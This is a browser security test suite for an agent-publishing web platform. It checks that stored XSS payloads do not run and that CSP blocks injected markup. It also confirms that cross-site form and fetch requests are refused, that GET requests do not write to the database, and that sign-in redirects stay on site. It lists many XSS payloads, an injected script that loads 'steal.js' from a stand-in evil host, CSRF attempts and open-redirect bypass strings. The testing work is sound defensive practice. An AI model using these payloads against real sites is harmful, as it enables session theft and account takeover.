import { createServer } from 'node:http'
import type { Page } from 'playwright-core'
import { expect, test } from 'vitest'
import { aBrowserSite, type Visitor } from '../../test/support/browser-site.ts'
import { freePort } from '../../test/support/bureau-process.ts'
import { atEndOfFile } from '../../test/support/each-file.ts'
import { publishAgent } from '../../test/support/publish-agent.ts'
import { grantCredits } from '../credits/index.ts'
import { encodeBlob } from '../platform/blob.ts'

const site = await aBrowserSite()
const evil = await anEvilSite()

async function signedIn(): Promise<Visitor & { readonly email: string }> {
  const person = await site.aPerson()
  const visitor = await site.visitor()
  expect(await visitor.signIn(person)).toBeNull()
  return { ...visitor, email: person.email }
}

/** Everything that would run if a stranger's text were taken for more than text. */
const HOSTILE = [
  `<script>window.stolen=1</script>`,
  `<img src=x onerror="window.stolen=1">`,
  `"><svg onload="window.stolen=1">`,
  `</script><script>window.stolen=1</script>`,
  `javascript:window.stolen=1`,
  `<iframe srcdoc="<script>parent.stolen=1</script>"></iframe>`,
  `{{constructor.constructor('window.stolen=1')()}}`,
].join(' ')
const README = `${HOSTILE}

[press me](javascript:window.stolen=1) [and me](data:text/html,<script>window.stolen=1</script>)
![track](${evil.origin}/pixel.png) <a href="javascript:window.stolen=1">raw</a> <img src="${evil.origin}/raw.png">

| a | b |
| - | - |
| <script>window.stolen=1</script> | <img src=x onerror=window.stolen=1> |
`

test('a script that an agent stores in its name, words, example, output, log or file runs nowhere, and nothing calls home', async () => {
  const { database, dataDir, creator } = site
  const agentId = await publishAgent({ db: database.db, dataDir }, creator, {
    name: `Helper ${HOSTILE}`,
    source: `export default async ({ text }, ctx) => {
      ctx.log.info(text); ctx.log.error('\\u001b[31m' + text + '\\u001b]8;;javascript:window.stolen=1\\u0007x')
      ctx.progress(0.5, text)
      await ctx.emit(text)
      await ctx.artifacts.put('"><img src=x onerror=window.stolen=1>.html', '<script>window.stolen=1<\\u002fscript>', { type: 'text/html' })
      await ctx.artifacts.put('run.svg', '<svg xmlns="http://www.w3.org/2000/svg" onload="window.stolen=1"/>', { type: 'image/svg+xml' })
      return { [text]: text, rows: [{ [text]: text, url: 'javascript:window.stolen=1' }], long: text.repeat(3), notes: [text, text] }
    }`,
    input: { type: 'object', properties: { text: { type: 'string', title: HOSTILE, description: HOSTILE } } },
  })
  await database.db.transaction(async ({ client }) => {
    await client.query(`update "Agent" set description = $2 where id = $1`, [agentId, HOSTILE])
    const examples = [{ name: HOSTILE, input: { text: HOSTILE }, output: { said: HOSTILE, rows: [{ said: HOSTILE }] } }]
    await client.query(`update "AgentVersion" set readme = $2, examples = $3 where "agentId" = $1`, [
      agentId,
      README,
      encodeBlob(Buffer.from(JSON.stringify(examples))),
    ])
  })
  const visitor = await signedIn()
  const { page, context } = visitor
  const calls: string[] = []
  context.on('request', (request) => void calls.push(request.url()))
  const { account, user }: { account: { id: string }; user: { name: string } } = await (
    await page.request.get(`${site.origin}/api/me`)
  ).json()
  expect(user.name).not.toBe('')
  await grantCredits({ db: database.db }, { accountId: account.id, amountMicro: 5_000_000n })
  const view: { owner: string; slug: string } = await (
    await page.request.get(`${site.origin}/api/agents/${agentId}`)
  ).json()

  await page.goto(`${site.origin}/agents/${view.owner}/${view.slug}`)
  await page.getByRole('heading', { level: 1 }).getByText('<script>window.stolen=1</script>').first().waitFor()
  for (const link of await page.getByRole('link', { name: /press me|and me/ }).all())
    await link.click({ noWaitAfter: true })
  await nothingRan(page)
  await page.getByRole('button', { name: 'Run', exact: true }).click()
  await page.waitForURL(/\/runs\//)
  const runPath = new URL(page.url()).pathname
  const output = page.getByRole('region', { name: 'Output' })
  await output.getByText(/^Done/).first().waitFor()
  await nothingRan(page)
  for (const path of [runPath, '/agents', `/creators/${view.owner}`, '/runs', '/home', '/credits']) {
    await page.goto(site.origin + path)
    await page.locator('h1').first().waitFor()
    for (const tab of await page.getByRole('tab').all()) {
      await tab.click()
      await nothingRan(page)
    }
    await nothingRan(page)
  }
  // As it leaves the API: always a download, in a sandbox of its own, of the type that it claims and no other.
  const runId = runPath.split('/').at(-1) ?? ''
  const run: { artifacts: { url: string; name: string }[] } = await (
    await page.request.get(`${site.origin}/api/runs/${runId}`)
  ).json()
  expect(run.artifacts.map(({ name }) => name).toSorted()).toEqual([
    '"><img src=x onerror=window.stolen=1>.html',
    'run.svg',
  ])
  for (const { url } of run.artifacts) {
    const file = await page.request.get(new URL(url, site.origin).href)
    expect(file.headers()).toMatchObject({
      'content-disposition': expect.stringMatching(/^attachment; filename\*=UTF-8''[\w.%-]+$/),
      'content-security-policy': "sandbox; default-src 'none'",
      'x-content-type-options': 'nosniff',
    })
    // Opened as a page it is downloaded, not shown.
    await expect(page.goto(new URL(url, site.origin).href)).rejects.toThrow(/Download is starting|ERR_ABORTED/)
  }
  expect(calls.filter((url) => url.startsWith(evil.origin))).toEqual([])
  expect(evil.asked).toEqual([])
})

/** What somebody who gets their markup into a page would write: the browser's parser meets it, as in a real hole. */
const PLANTED = `<script>window.stolen = 1</script><script src="${evil.origin}/steal.js"></script>
  <img src="/nothing.png" onerror="window.stolen = 1"><a id="press" href="javascript:window.stolen=1">press</a>
  <base href="${evil.origin}/"><form id="send" action="${evil.origin}/"></form><iframe src="${evil.origin}/"></iframe>
  <object data="${evil.origin}/"></object><link rel="stylesheet" href="${evil.origin}/steal.css">`

test.each(['/', '/home'])('a script that is planted in %s is blocked, and the browser says so', async (path) => {
  const { page, violations } = await signedIn()
  if (path === '/') await page.context().clearCookies()
  await page.route(site.origin + path, async (route) => {
    const answer = await route.fetch({ headers: { ...route.request().headers(), 'accept-encoding': 'identity' } })
    const html = await answer.text()
    expect(html).toContain('</body>')
    await route.fulfill({ response: answer, body: html.replace('</body>', `${PLANTED}</body>`) })
  })
  await page.goto(site.origin + path)
  await page.evaluate(`{
    document.getElementById('press')?.click()
    document.getElementById('send')?.submit()
    fetch('${evil.origin}/').catch(() => {})
  }`)
  const told = () => new Set(violations.map((each) => each.replace(/ \S+$/, '').replace(/http\S+/, 'evil')))
  await expect
    .poll(() => [...told()].toSorted(), { timeout: 10_000 })
    .toEqual([
      'base-uri evil',
      'connect-src evil',
      'form-action evil',
      'frame-src evil',
      'object-src evil',
      'script-src-attr inline',
      'script-src-elem evil',
      'script-src-elem inline',
      'style-src-elem evil',
    ])
  violations.length = 0
  await nothingRan(page)
  expect(evil.asked).toEqual([])
})

test('a page of another site can neither write as its visitor, nor read, nor show the site in a frame', async () => {
  const { page, context, email } = await signedIn()
  const me = async () => (await context.request.get(`${site.origin}/api/me`)).json()
  const before = await me()
  const { csrfToken }: { csrfToken: string } = await (await context.request.get(`${site.origin}/api/auth/csrf`)).json()
  const agentId = await publishAgent({ db: site.database.db, dataDir: site.dataDir }, site.creator, {
    name: 'Free for all',
    source: 'export default () => 1',
  })
  const changes = await countChanges()
  await page.goto(evil.origin)
  // What a form can send, and what a script can: each with the session's cookie as far as the browser lets it.
  const tried: unknown = await page.evaluate(
    `(async () => {
      const to = (path) => ${JSON.stringify(site.origin)} + path
      const outcomes = []
      const attempt = async (name, path, init) => {
        outcomes.push([name, await fetch(to(path), { credentials: 'include', ...init }).then((a) => a.type + ' ' + a.status, () => 'refused')])
      }
      const body = JSON.stringify({ name: 'Owned' })
      await attempt('PATCH as JSON', '/api/me', { method: 'PATCH', headers: { 'content-type': 'application/json', 'x-csrf-token': ${JSON.stringify(csrfToken)} }, body })
      await attempt('POST as text', '/api/keys', { method: 'POST', mode: 'no-cors', headers: { 'content-type': 'text/plain' }, body })
      const file = new FormData()
      file.append('file', new File(['owned'], 'owned.txt'))
      await attempt('POST of a file', '/api/uploads', { method: 'POST', mode: 'no-cors', body: file })
      await attempt('POST as a form', '/api/auth/signout', { method: 'POST', mode: 'no-cors', headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: 'json=true&csrfToken=${'0'.repeat(64)}' })
      await attempt('GET that reads', '/api/me', {})
      await attempt('GET of the token', '/api/auth/csrf', {})
      return outcomes
    })()`,
  )
  expect(tried).toEqual([
    ['PATCH as JSON', 'refused'],
    ['POST as text', 'refused'],
    ['POST of a file', 'refused'],
    ['POST as a form', 'refused'],
    ['GET that reads', 'refused'],
    ['GET of the token', 'refused'],
  ])
  // A form that goes there takes the whole window along, so the browser sends what SameSite allows. As text that reads as
  // JSON (the equals sign of a form is within a string), and as parts, which a run and an upload take as they come.
  const asText = ['text/plain', '{"name":"Owned', '"}'] as const
  const asParts = ['multipart/form-data', 'input', '{}'] as const
  for (const [action, [encoding, name, value]] of [
    ['/api/accounts', asText],
    ['/api/me', asText],
    ['/api/keys', asText],
    ['/api/sessions/current', asText],
    ['/api/auth/signout', asText],
    ['/api/auth/callback/credentials', asText],
    [`/api/agents/${agentId}/run`, asParts],
    ['/api/uploads', asParts],
  ] as const) {
    await page.goto(evil.origin)
    await page.evaluate(`{
      const form = document.createElement('form')
      form.method = 'post'
      form.enctype = ${JSON.stringify(encoding)}
      form.action = ${JSON.stringify(site.origin + action)}
      const field = document.createElement('input')
      field.name = ${JSON.stringify(name)}
      field.value = ${JSON.stringify(value)}
      form.append(field)
      document.body.append(form)
      form.submit()
    }`)
    await page.waitForURL((url) => url.origin === site.origin)
  }
  expect(await me()).toEqual(before)
  expect(before.user.email).toBe(email)
  expect(await countChanges()).toBe(changes)

  await page.goto(evil.origin)
  const framed = ['/', '/account', '/sign-in', '/docs', '/api/me'].map((path) => site.origin + path)
  await page.evaluate(`Promise.all(${JSON.stringify(framed)}.map((src) => new Promise((resolve) => {
    const frame = document.createElement('iframe')
    frame.onload = resolve
    frame.src = src
    document.body.append(frame)
  })))`)
  // What the browser shows instead is an error page of its own.
  expect(page.frames().map((frame) => frame.url())).toEqual([
    `${evil.origin}/`,
    ...framed.map(() => 'chrome-error://chromewebdata/'),
  ])
})

test('no GET writes: with the cookie of a signed-in person, every one leaves the database as it was', async () => {
  const { context } = await signedIn()
  const { paths }: { paths: Record<string, Record<string, unknown>> } = await (
    await context.request.get(`${site.origin}/api/openapi.json`)
  ).json()
  const reads = Object.entries(paths).flatMap(([path, methods]) => ('get' in methods ? [path] : []))
  expect(reads.length).toBeGreaterThan(20)
  const before = await countChanges()
  for (const path of [
    ...reads,
    '/api/auth/signin',
    '/api/auth/signout',
    '/api/auth/callback/credentials',
    '/api/auth/session',
  ]) {
    if (path.endsWith('/events')) continue
    await context.request.get(site.origin + path.replaceAll(/\{\w+\}/g, 'x'), { maxRedirects: 0 })
  }
  expect(await countChanges()).toBe(before)
  expect((await context.request.get(`${site.origin}/api/me`)).status()).toBe(200)
})

const ELSEWHERE = (host: string) => [
  `https://${host}/`,
  `//${host}/`,
  `/\\${host}/`,
  `\\\\${host}`,
  `/\t/${host}/`,
  `https:${host}`,
  `javascript:alert(1)//`,
  `data:text/html,x`,
  `${site.origin}@${host}/`,
  `${site.origin}.${host}/`,
]

test('whoever signs in by a prepared link stays on this site', async () => {
  const person = await site.aPerson()
  for (const where of ELSEWHERE('evil.example')) {
    const { page, context } = await site.visitor()
    const given = encodeURIComponent(where)
    // NextAuth's own door: whatever is asked for, it answers with an address of this site.
    const { csrfToken }: { csrfToken: string } = await (
      await context.request.get(`${site.origin}/api/auth/csrf`)
    ).json()
    const form = { ...person, csrfToken, json: 'true', callbackUrl: where }
    const answer = await context.request.post(`${site.origin}/api/auth/callback/credentials`, { form })
    const { url }: { url: string } = await answer.json()
    expect(new URL(url).origin, where).toBe(site.origin)
    for (const path of [`/api/auth/signin?callbackUrl=${given}`, `/api/auth/signout?callbackUrl=${given}`]) {
      const away = await context.request.get(site.origin + path, { maxRedirects: 0 })
      expect(new URL(away.headers()['location'] ?? '/', site.origin).origin, path).toBe(site.origin)
    }
    await context.clearCookies()
    await page.goto(`${site.origin}/sign-in?next=${given}&callbackUrl=${given}`)
    await page.getByLabel('E-mail address').fill(person.email)
    await page.getByLabel('Password', { exact: true }).fill(person.password)
    await page.getByRole('button', { name: 'Sign in', exact: true }).click()
    await page.waitForURL(`${site.origin}/home`)
    await context.close()
  }
})

async function nothingRan(page: Page): Promise<void> {
  expect(await page.evaluate('window.stolen')).toBeUndefined()
}

/** What a write leaves: rows of the tables that people change, and what the audit tells. */
async function countChanges(): Promise<string> {
  return site.database.db.transaction(async ({ client }) => {
    const people = ['User', 'Session', 'ApiKey', 'Account', 'Member', 'Invitation', 'Identity', 'Agent', 'AuditEvent']
    const tables = [...people, 'runs', 'uploads']
    const counts: string[] = []
    for (const table of tables) {
      const { rows } = await client.query<{ count: string }>(`select count(*) from "${table}"`)
      counts.push(`${table} ${rows[0]?.count}`)
    }
    const { rows } = await client.query<{ name: string }>(`select name from "User" order by id`)
    return [...counts, ...rows.map(({ name }) => name)].join(', ')
  })
}

/** A site of somebody else: another host, so that to a browser it is another site and not only another origin. */
async function anEvilSite() {
  const port = await freePort()
  const asked: string[] = []
  const server = createServer((req, res) => {
    if (req.url !== '/') asked.push(req.url ?? '')
    res.writeHead(req.url === '/' ? 200 : 404, { 'content-type': 'text/html', 'access-control-allow-origin': '*' })
    res.end('<!doctype html><title>Win a prize</title><link rel="icon" href="data:,"><body>')
  })
  await new Promise<void>((resolve) => server.listen(port, '127.0.0.1', resolve))
  atEndOfFile(
    () =>
      new Promise((resolve) => {
        server.close(() => resolve())
        server.closeAllConnections()
      }),
  )
  return { origin: `http://localhost:${port}`, asked }
}
